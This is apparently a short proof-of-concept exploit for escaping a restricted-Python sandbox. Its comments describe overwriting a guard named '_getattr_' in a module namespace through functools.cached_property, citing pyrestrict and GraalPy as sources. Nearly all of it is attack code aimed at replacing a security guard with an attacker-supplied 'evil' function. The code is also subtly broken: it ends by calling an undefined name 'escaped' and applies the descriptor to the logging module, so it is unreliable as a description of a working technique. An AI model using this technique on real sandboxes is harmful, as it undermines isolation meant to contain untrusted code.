# technique: functools.cached_property sets an item of the namespace of any object: of a module that is guest code, with a guard's name
# source: reading pyrestrict and GraalPy's library
# goal: put a function of the guest in the place of a guard
# impact: guard
import functools, logging
def evil(*a): 
    return a
cp = functools.cached_property(lambda m: evil)
cp.__set_name__(object, '_getattr_')
cp.__get__(logging)
escaped(1)
